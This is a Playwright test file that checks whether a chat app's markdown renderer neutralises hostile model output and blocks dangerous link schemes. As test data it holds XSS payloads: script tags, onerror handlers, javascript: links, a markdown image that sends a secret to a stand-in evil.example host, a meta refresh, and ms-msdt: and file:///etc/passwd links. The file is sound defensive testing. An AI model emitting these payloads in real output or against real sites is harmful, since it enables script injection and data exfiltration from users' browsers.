import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { answerWith } from '#test/support/fake-control.ts';
import { useRenderer } from '#test/support/use-renderer.ts';
import { verifies } from '#test/support/verifies.ts';
import { makeQuietHouse } from './house.ts';

const renderer = useRenderer();

const hostile = [
  '<img src=x onerror="window.ran=1">',
  '<svg onload="window.ran=1"><script>window.ran=1</script></svg>',
  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  '<script>window.ran=1</script>',
  '[click](javascript:window.ran=1)',
  '[click](JaVa\tScript:window.ran=1)',
  '![x](https://evil.example/leak.png?secret=1)',
  '[x](data:text/html,<script>window.ran=1</script>)',
  '```mermaid\ngraph TD; A["<img src=x onerror=window.ran=1>"]\n```',
  '$\\href{javascript:window.ran=1}{x}$ $$\\html{<img onerror=window.ran=1>}$$',
  '<a href="javascript:window.ran=1">x</a><form action="javascript:window.ran=1"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>',
  '"><img src=x onerror=window.ran=1>',
];

async function showAnswer(page: Page, text: string): Promise<void> {
  await page.getByLabel('Message').fill('Go');
  await page.keyboard.press('Enter');
  await page.getByText('to first token').waitFor();
  await page.locator('.markdown').first().waitFor({ state: 'attached' });
  expect(await page.locator('.markdown').count()).toBeGreaterThan(0);
  expect(text).not.toBe('');
}

describe('what a model writes', () => {
  test(
    'runs nothing, loads nothing and makes no element of its own',
    verifies(['SEC-40'], { breaks: 'src/renderer/features/chat/markdown/markdown-view.tsx#MarkdownView' }, async () => {
      const control = makeQuietHouse();
      const text = hostile.join('\n\n');
      control.answer = () => answerWith([text]);
      const page = await renderer.open('chat', control, {}, /Content Security Policy|TrustedScript/);
      const foreign: string[] = [];
      page.on('request', (request) => {
        if (!request.url().startsWith(new URL(page.url()).origin)) foreign.push(request.url());
      });
      await showAnswer(page, text);
      const made = await page
        .locator('.markdown')
        .locator('img, svg svg, iframe, script, a, form, meta, style, link, [onerror], [onload], [href], [src]')
        .count();
      expect(made).toBe(0);
      expect(await page.evaluate('window.ran')).toBeUndefined();
      expect(foreign).toEqual([]);
      // Everything is there as text instead.
      const shown = await page.locator('.markdown').first().innerText();
      expect(shown).toContain('<img src=x onerror="window.ran=1">');
      expect(shown).toContain('click (javascript:window.ran=1)');
      // Even if an element could be made, the policy of the pages stops it, and says so.
      const blocked = await page.evaluate(`new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => resolve(event.violatedDirective), { once: true });
        const image = document.createElement('img');
        image.src = 'https://evil.example/leak.png';
        document.body.append(image);
      })`);
      expect(blocked).toBe('img-src');
      await expect(page.evaluate(`document.body.setAttribute('onclick', 'window.ran = 1')`)).rejects.toThrow(
        'TrustedScript',
      );
      expect(await page.evaluate('window.ran')).toBeUndefined();
    }),
  );

  test('opens only web and mail addresses, and only after the whole address was confirmed', async () => {
    const control = makeQuietHouse();
    const schemes = [
      'ms-msdt:/id',
      'smb://host/x',
      'file:///etc/passwd',
      'calculator:',
      'vscode://x',
      '\\\\host\\share',
    ];
    const links = schemes.map((address) => `[bank](${address})`).join(' ');
    control.answer = () => answerWith([`${links} [bank](https://bank.example.evil.example/login)`]);
    const page = await renderer.open('chat', control);
    await page.evaluate('window.opened = []; window.open = (...call) => { window.opened.push(call); return null; }');
    await showAnswer(page, links);
    const link = page.locator('.markdown .external-link');
    expect(await link.count()).toBe(1);
    await link.click();
    const dialog = page.getByRole('alertdialog', { name: 'Open this link in the browser?' });
    await dialog.getByText('https://bank.example.evil.example/login').waitFor();
    await page.keyboard.press('Escape');
    await dialog.waitFor({ state: 'detached' });
    expect(await page.evaluate('window.opened')).toEqual([]);
    await link.click({ button: 'middle' });
    expect(await page.evaluate('window.opened')).toEqual([]);
    await link.click();
    await dialog.getByRole('button', { name: 'Open' }).click();
    expect(await page.evaluate('window.opened')).toEqual([
      ['https://bank.example.evil.example/login', '_blank', 'noopener,noreferrer'],
    ]);
  });
});
